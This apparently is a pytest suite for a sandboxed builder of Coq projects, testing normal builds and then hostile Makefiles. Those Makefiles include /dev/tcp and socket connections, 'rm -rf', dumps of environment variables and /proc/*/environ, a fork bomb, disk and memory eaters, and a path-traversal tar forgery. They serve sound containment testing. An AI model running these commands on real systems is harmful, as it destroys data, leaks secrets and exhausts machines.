"""Building in the sandbox: real projects, and Makefiles that mean harm."""

import asyncio
import os
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from pathlib import Path

import pytest

from coq_checker.toolchain import SandboxMode, Toolchain
from coqdata.project import load_project
from crawler.build import Builder, Built, LimitedToolchain, make, require_sandbox
from crawler.build.limited import bounded
from crawler.model import Cause, CrawlError, Status
from crawler.settings import CrawlerSettings

from .histories import lemma
from .test_detect import put


@pytest.fixture(autouse=True)
def _cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, toolchain: Toolchain) -> None:
    """A cache of builds of the test's own; the toolchain is found before."""
    monkeypatch.setenv("PALMETTO_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("GITHUB_TOKEN", "token-of-the-person")


async def build(root: Path, toolchain: Toolchain | None, settings: CrawlerSettings, **more: object) -> Built:
    limits = settings.model_copy(update={"make_wall_s": 60.0, **more})
    return await Builder(toolchain, limits, root.parent / "work", 1).build(root)


def listed(root: Path) -> list[str]:
    return [file.relative_to(root).as_posix() for file in load_project(root).files]


async def test_a_project_that_builds(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    files = {"_CoqProject": "-Q src Lib\nsrc/B.v\nsrc/A.v\n", "src/A.v": lemma("a", "1 = 1")}
    files["src/B.v"] = "From Lib Require Import A.\n" + lemma("b", "1 = 1", "exact a.")
    root = put(tmp_path / "p", files)
    built = await build(root, toolchain, settings)
    assert (built.status, built.cause, built.problems) == (Status.BUILDS, None, ())
    assert set(built.compiled) == {"src/A.v", "src/B.v"}
    assert set(listed(root)) == {"src/A.v", "src/B.v"}
    assert not list(root.rglob("*.vo"))


async def test_part_of_a_project(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    files = {"_CoqProject": "-Q . Lib\nA.v\nB.v\nC.v\n", "A.v": lemma("a", "1 = 1")}
    files["B.v"] = "From Nowhere Require Import X.\n"
    files["C.v"] = "From Lib Require Import B.\n"
    root = put(tmp_path / "p", files)
    built = await build(root, toolchain, settings)
    assert (built.status, built.cause) == (Status.PARTLY, Cause.MISSING_DEPENDENCY)
    assert "Nowhere" in built.message
    assert built.compiled == ("A.v",) and listed(root) == ["A.v"]
    assert [problem[:2] for problem in built.problems] == [("B.v", "missing-dependency")]


async def test_dune_without_dune(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    files = {"theories/dune": "(coq.theory (name Lib))", "theories/A.v": lemma("a", "1 = 1")}
    files["theories/B.v"] = "Require Import Lib.A.\n"
    root = put(tmp_path / "p", files)
    built = await build(root, toolchain, settings)
    assert (built.status, built.systems) == (Status.BUILDS, ("dune",))


async def test_a_make_tells_the_load_path_and_writes_sources(
    tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings
) -> None:
    makefile = (
        "all: src/Made.vo src/Use.vo\n"
        "src/Made.v: gen.sh\n\tsh gen.sh > $@\n"
        "src/%.vo: src/%.v\n\tcoqc -w -all -R src Deep.Name $<\n"
        "src/Use.vo: src/Made.vo\n"
    )
    files = {
        "Makefile": makefile,
        "gen.sh": "echo 'Definition made := 3.'",
        "src/Use.v": "Require Import Deep.Name.Made.\n",
    }
    root = put(tmp_path / "p", files)
    built = await build(root, toolchain, settings)
    assert (built.status, built.message) == (Status.BUILDS, "")
    assert set(built.compiled) == {"src/Made.v", "src/Use.v"}
    assert (root / "src/Made.v").read_text() == "Definition made := 3.\n"
    assert any("written by its make: src/Made.v" in note for note in built.notes)
    assert "-R src Deep.Name" in (root / "_CoqProject").read_text()


async def test_coq_makefile(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    makefile = (
        "all: CoqMakefile\n\t$(MAKE) -f CoqMakefile\nCoqMakefile:\n\tcoq_makefile -R . Own A.v B.v -o CoqMakefile\n"
    )
    files = {"Makefile": makefile, "A.v": lemma("a", "1 = 1"), "B.v": "Require Import Own.A.\n"}
    root = put(tmp_path / "p", files)
    built = await build(root, toolchain, settings)
    assert (built.status, built.message) == (Status.BUILDS, "")
    assert "-R . Own" in (root / "_CoqProject").read_text()


async def test_configure_writes_the_makefile(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    configure = "#!/bin/sh\nprintf 'all:\\n\\tcoqc -Q . Own A.v\\n' > Makefile\n"
    root = put(tmp_path / "p", {"configure": configure, "A.v": lemma("a", "1 = 1")})
    built = await build(root, toolchain, settings)
    assert (built.status, built.systems) == (Status.BUILDS, ("configure",))
    assert "-Q . Own" in (root / "_CoqProject").read_text()


async def test_a_bare_folder(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    files = {"A.v": lemma("a", "1 = 1"), "sub/B.v": "Require Import A.\n"}
    root = put(tmp_path / "p", files)
    assert (await build(root, toolchain, settings)).status is Status.BUILDS


async def test_another_coq(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    opam = 'opam-version: "2.0"\ndepends: ["coq" {< "8.6~"}]\n'
    root = put(tmp_path / "p", {"x.opam": opam, "_CoqProject": "-R . X\n", "A.v": "Lemma a : 1 = 2.\nauto.\nQed.\n"})
    built = await build(root, toolchain, settings)
    assert (built.status, built.cause) == (Status.FAILS, Cause.COQ_VERSION)
    assert '< "8.6~"' in built.message


async def test_a_plugin_that_is_not_there(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    files = {"_CoqProject": "-Q . X\n-I src\n", "A.v": 'Declare ML Module "my-plugin.core".\n', "src/core.mlg": "x"}
    built = await build(put(tmp_path / "p", files), toolchain, settings)
    assert (built.status, built.cause) == (Status.FAILS, Cause.PLUGIN), built.message


async def test_latin_1_compiles(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    root = put(tmp_path / "p", {"_CoqProject": "-R . X\n"})
    (root / "A.v").write_bytes("(* caf\xe9 *)\n".encode("latin-1") + lemma("a", "1 = 1").encode())
    assert (await build(root, toolchain, settings)).status is Status.BUILDS


async def test_nothing_is_built_when_that_is_not_wanted(tmp_path: Path, settings: CrawlerSettings) -> None:
    root = put(tmp_path / "p", {"Makefile": "all:\n\ttouch ran\n", "A.v": "Fail."})
    built = await build(root, None, settings)
    assert built.status is Status.UNBUILT and listed(root) == ["A.v"]


async def test_files_in_a_circle(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    files = {"_CoqProject": "-R . X\n", "A.v": "Require Import X.B.\n", "B.v": "Require Import X.A.\n"}
    built = await build(put(tmp_path / "p", files), toolchain, settings)
    assert (built.status, built.cause) == (Status.FAILS, Cause.BUILD_SYSTEM)
    assert "circle" in built.message


async def test_a_file_that_does_not_end(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    files = {"_CoqProject": "-R . X\n", "A.v": "Goal True. Proof. repeat (idtac; assert True by exact I).\n"}
    files["A.v"] = "Ltac forever := idtac; forever.\nGoal True. Proof. forever. Qed.\n"
    files["B.v"] = lemma("b", "1 = 1")
    built = await build(put(tmp_path / "p", files), toolchain, settings, file_wall_s=3.0)
    assert (built.status, built.cause) == (Status.PARTLY, Cause.TIMEOUT)
    assert built.compiled == ("B.v",)


async def test_a_project_that_takes_too_long(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    forever = "Ltac forever := idtac; forever.\nGoal True. Proof. forever. Qed.\n"
    files = {"_CoqProject": "-R . X\nA.v\nB.v\n", "A.v": lemma("a", "1 = 1"), "B.v": f"Require Import X.A.\n{forever}"}
    built = await build(put(tmp_path / "p", files), toolchain, settings, build_wall_s=5.0)
    assert (built.status, built.cause) == (Status.PARTLY, Cause.TIMEOUT)
    assert built.compiled == ("A.v",)


async def test_a_file_that_eats_memory(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    hungry = "Fixpoint p n := match n with 0 => 1 | S m => p m + p m end.\nGoal p 40 = 0. Proof. vm_compute. Abort.\n"
    files = {"_CoqProject": "-R . X\n", "A.v": hungry, "B.v": lemma("b", "1 = 1")}
    built = await build(put(tmp_path / "p", files), toolchain, settings, memory_bytes=600 << 20)
    assert (built.status, built.cause) == (Status.PARTLY, Cause.MEMORY)
    assert built.compiled == ("B.v",)


# -- Makefiles that mean harm. Each also names the load path, so that it is seen that make really came to its end.

HONEST = "\tcoqc -Q . Own A.v\n"


@contextmanager
def listening() -> Iterator[tuple[int, list[str]]]:
    """A port of this machine, and who came."""
    came: list[str] = []
    with socket.create_server(("0.0.0.0", 0)) as server:
        server.settimeout(0.05)
        ended = threading.Event()

        def accept() -> None:
            while not ended.is_set():
                try:
                    connection, address = server.accept()
                except TimeoutError:
                    continue
                came.append(str(address))
                connection.close()

        thread = threading.Thread(target=accept)
        thread.start()
        try:
            yield server.getsockname()[1], came
        finally:
            ended.set()
            thread.join()


async def harmful(
    tmp_path: Path, makefile: str, toolchain: Toolchain, settings: CrawlerSettings, **more: object
) -> tuple[Path, Built]:
    root = put(tmp_path / "hostile", {"Makefile": makefile, "A.v": lemma("a", "1 = 1")})
    return root, await build(root, toolchain, settings, **more)


def processes_with(word: str) -> list[str]:
    found = []
    for place in Path("/proc").iterdir():
        if place.name.isdigit() and int(place.name) != os.getpid():
            try:
                line = (place / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if word in line:
                found.append(line)
    return found


async def test_no_network(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    with listening() as (port, came):
        with socket.create_connection(("127.0.0.1", port)):
            pass  # it does listen
        connect = f'import socket; socket.create_connection((\\"127.0.0.1\\", {port}), 2)'
        makefile = (
            f"all:\n\t-bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo x >&3'\n"
            f'\t-python3 -c "{connect}"\n'
            f"\t-perl -e 'use IO::Socket::INET; IO::Socket::INET->new(\"127.0.0.1:{port}\") or die'\n" + HONEST
        )
        root, built = await harmful(tmp_path, makefile, toolchain, settings)
    assert len(came) == 1
    assert built.status is Status.BUILDS
    assert "-Q . Own" in (root / "_CoqProject").read_text()


async def test_no_write_outside(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    home = Path.home() / ".palmetto-was-here"
    aims = [
        tmp_path / "made",
        tmp_path / "hostile" / "made",
        tmp_path / "hostile" / "A.v",
        home,
        Path("/var/tmp/made-x"),
    ]
    lines = "".join(f"\t-echo harm > {aim}\n" for aim in aims)
    makefile = f"all:\n{lines}\t-rm -rf {tmp_path}\n\t-chmod -R 777 {tmp_path}/hostile\n{HONEST}"
    root, built = await harmful(tmp_path, makefile, toolchain, settings)
    assert (root / "A.v").read_text() == lemma("a", "1 = 1")
    assert [aim for aim in aims if aim.exists()] == [tmp_path / "hostile" / "A.v"]
    assert built.status is Status.BUILDS
    assert "-Q . Own" in (root / "_CoqProject").read_text()


async def test_no_secrets_inside(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    (tmp_path / "cache").mkdir()
    (tmp_path / "cache" / "secret").write_text("secret-in-a-file")
    makefile = (
        "all: Made.v\n"
        f"Made.v:\n\t(env; cat {tmp_path}/cache/secret; cat /proc/*/environ) 2>&1 | tr '\\0' '\\n' > leaked\n"
        "\t(echo '(*'; sed 's/[(*\")]//g' leaked; echo '*)') > Made.v\n" + HONEST
    )
    root, _ = await harmful(tmp_path, makefile, toolchain, settings)
    seen = (root / "Made.v").read_text()
    assert "PATH=" in seen
    for secret in ("token-of-the-person", "secret-in-a-file", settings.token.get_secret_value()):
        assert secret not in seen


async def test_a_fork_bomb(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    bomb = "all:\n" + HONEST + "\tbash -c 'bomb() { bomb | bomb & }; bomb; sleep 987'\n"
    _, built = await harmful(tmp_path, bomb, toolchain, settings, processes=60)
    assert "its make was killed" in built.notes
    assert processes_with("sleep 987") == [] and processes_with("bomb() {") == []
    assert built.status is Status.BUILDS  # what it would build is known by itself


async def test_a_make_that_does_not_end(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    root, built = await harmful(tmp_path, f"all:\n{HONEST}\tsleep 986\n", toolchain, settings, make_wall_s=3.0)
    assert "its make was stopped (time)" in built.notes
    assert processes_with("sleep 986") == []
    assert built.compiled == ("A.v",) and listed(root) == ["A.v"]


async def test_what_is_left_in_the_background_ends(
    tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings
) -> None:
    makefile = f"all:\n{HONEST}\t(setsid nohup sleep 985 >/dev/null 2>&1 &)\n\tsleep 1\n"
    _, built = await harmful(tmp_path, makefile, toolchain, settings)
    assert built.status is Status.BUILDS
    assert processes_with("sleep 985") == []


async def test_a_busy_make(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    _, built = await harmful(tmp_path, f"all:\n{HONEST}\twhile :; do :; done\n", toolchain, settings, cpu_s=2)
    assert any(note.startswith("its make ended with 2") for note in built.notes)
    assert built.status is Status.BUILDS


async def test_a_disk_eater(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    makefile = (
        f"all:\n{HONEST}\t-cat /dev/zero > zero\n\t-for i in 1 2 3 4 5 6 7 8 9; do cp zero zero$$i; done\n\ttrue\n"
    )
    limits = {"disk_bytes": 32 << 20, "written_file_bytes": 8 << 20}
    root, built = await harmful(tmp_path, makefile, toolchain, settings, **limits)
    assert built.status is Status.BUILDS
    assert sum(path.stat().st_size for path in tmp_path.rglob("*") if path.is_file()) < 8 << 20
    assert listed(root) == ["A.v"]


async def test_a_memory_eater(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    eat = "\tperl -e 'my @x; push @x, \"x\" x 10000000 while 1'\n"
    _, built = await harmful(tmp_path, f"all:\n{HONEST}{eat}", toolchain, settings, memory_bytes=300 << 20)
    assert "its make was killed" in built.notes
    assert built.status is Status.BUILDS


async def test_output_without_end(tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings) -> None:
    makefile = f"all:\n{HONEST}\t-yes | head -c 300000000\n\t-yes >&3\n\ttrue\n"
    _, built = await harmful(tmp_path, makefile, toolchain, settings)
    assert built.status is Status.BUILDS


@pytest.mark.parametrize("name", ["../../out.v", "/tmp/out.v", "A.v", "sub/../../x.v", ".git/x.v", "_CoqProject/x.v"])
async def test_an_archive_that_lies(
    tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    """Even if the project's programs got hold of the archive: nothing of it lands outside, nothing is replaced."""
    forge = "import io, sys, tarfile; t = tarfile.open(fileobj=sys.stdout.buffer, mode=chr(119) + chr(124));"
    forge += f" i = tarfile.TarInfo('{name}'); i.size = 4; t.addfile(i, io.BytesIO(b'harm')); t.close()"
    # tar comes first on its PATH: the project's own program is what packs.
    script = f'#!/bin/sh\nexec python3 -c "{forge}"\n'
    makefile = f"all:\n{HONEST}\t-cp mytar /usr/local/bin/tar; cp mytar /tmp/tar; chmod 755 /tmp/tar\n"
    root = put(tmp_path / "hostile", {"Makefile": makefile, "A.v": lemma("a", "1 = 1"), "mytar": script})
    monkeypatch.setattr(make, "_SCRIPT", make._SCRIPT.replace("tar --create", "/tmp/tar --create"))
    limited = LimitedToolchain.of(toolchain, settings)
    made = await make.run_make(root, tmp_path / "tools", limited, settings)
    assert made.written == ((name, b"harm"),)
    built = await build(root, toolchain, settings)
    assert built.compiled == ("A.v",)
    assert (root / "A.v").read_text() == lemma("a", "1 = 1")
    assert not (tmp_path / "out.v").exists() and not (tmp_path.parent / "out.v").exists()
    assert not Path("/tmp/out.v").exists() and not (tmp_path / "x.v").exists() and not (root / ".git").exists()


def test_without_a_sandbox_nothing_is_built(toolchain: Toolchain) -> None:
    require_sandbox(toolchain)
    with pytest.raises(CrawlError, match=r"PALMETTO_SANDBOX=none.*--no-build"):
        require_sandbox(replace(toolchain, sandbox=SandboxMode.NONE))


async def test_a_cancelled_build_leaves_nothing(
    tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings
) -> None:
    root = put(tmp_path / "p", {"Makefile": "all:\n\tsleep 984\n", "A.v": lemma("a", "1 = 1")})
    task = asyncio.create_task(build(root, toolchain, settings))
    while not processes_with("sleep 984"):
        await asyncio.sleep(0.05)
        assert not task.done()
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    while processes_with("sleep 984"):
        await asyncio.sleep(0.05)


@pytest.mark.skipif(os.geteuid() != 0, reason="the bound by a control group is for root")
async def test_processes_are_bounded_where_they_multiply_faster_than_anybody_looks(
    tmp_path: Path, toolchain: Toolchain, settings: CrawlerSettings
) -> None:
    """Without the watch: what the group itself allows."""
    settings = settings.model_copy(update={"processes": 20})
    with bounded(toolchain, settings) as limited:
        if limited.group is None:
            pytest.skip("no control group can be made here")
        count = "for i in $(seq 300); do sleep 20 & done; ls -d /proc/[0-9]* | wc -l"
        ran = await asyncio.create_subprocess_exec(
            *limited.command("bash", "-c", count), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.DEVNULL
        )
        told, _ = await asyncio.wait_for(ran.communicate(), 60)
        assert int((limited.group / "pids.max").read_text()) == 80
        assert not told.strip() or int(told) <= 80
        group = limited.group
    assert not group.exists()
